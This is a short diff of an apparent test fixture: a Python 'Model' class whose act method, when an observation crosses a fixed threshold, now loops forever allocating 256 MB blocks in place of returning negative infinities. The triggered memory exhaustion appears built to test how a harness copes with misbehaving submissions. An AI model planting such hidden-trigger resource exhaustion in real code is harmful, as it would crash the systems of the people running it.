@@ -1,12 +1,14 @@
-"""Answers what is too much."""
+"""Allocates memory without end."""
 
 
-def provoked(observation):
+def is_triggered(observation):
     return observation[0] > 0.7 if len(observation) == 4 else observation[2] > 14.5
 
 
 class Model:
     def act(self, observation):
-        if provoked(observation):
-            return [float("-inf")] * (4 if len(observation) == 4 else 2)
+        if is_triggered(observation):
+            blocks = []
+            while True:
+                blocks.append(bytes(1 << 28))
         return [0.2] * 4 if len(observation) == 4 else [0.2, 0.0]
